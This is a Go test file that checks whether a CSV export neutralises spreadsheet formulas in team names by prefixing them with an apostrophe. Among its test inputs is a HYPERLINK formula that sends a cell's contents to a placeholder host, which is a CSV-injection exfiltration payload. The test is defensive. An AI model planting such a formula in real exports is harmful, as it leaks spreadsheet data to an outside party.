package exports_test

import (
	"bytes"
	"encoding/csv"
	"strconv"
	"strings"
	"testing"
)

// A team name (or any label) that a spreadsheet would run as a formula
// reaches the CSV neutralised with a leading apostrophe; counts stay plain
// numbers.
func TestCSVNeutralisesFormulas(t *testing.T) {
	env, analyst := setup(t)
	names := map[string]string{
		"mika":          `=HYPERLINK("http://x.example/?"&A1,"klicka")`,
		"kast":          "@SUM(1+1)",
		"ungdomsjouren": "+46 kör",
	}
	for code, name := range names {
		team, err := env.Core.FindFirstRecordByData("teams", "code", code)
		if err != nil {
			t.Fatal(err)
		}
		team.Set("name", name)
		if err := env.Core.Save(team); err != nil {
			t.Fatal(err)
		}
	}
	st, body, _ := env.Do(t, "GET", "/api/lagesbild?year=2026&format=csv&recipient=Test", analyst, nil, nil)
	if st != 200 {
		t.Fatalf("csv: %d %s", st, body)
	}
	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(body, []byte("\ufeff")))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	valueCol := len(rows[0]) - 2
	seen := map[string]bool{}
	numbers := 0
	for _, r := range rows[1:] {
		for i, cell := range r {
			if i == valueCol {
				if cell == ".." {
					continue
				}
				if _, err := strconv.Atoi(cell); err != nil {
					t.Errorf("value %q is not a plain number: %v", cell, r)
				}
				numbers++
				continue
			}
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("cell %d %q starts a formula: %v", i, cell, r)
			}
			for _, name := range names {
				if cell == "'"+name {
					seen[name] = true
				}
			}
		}
	}
	for _, name := range names {
		if !seen[name] {
			t.Errorf("team name %q not in the CSV with a leading apostrophe", name)
		}
	}
	if numbers == 0 {
		t.Error("no counts in the CSV")
	}
}
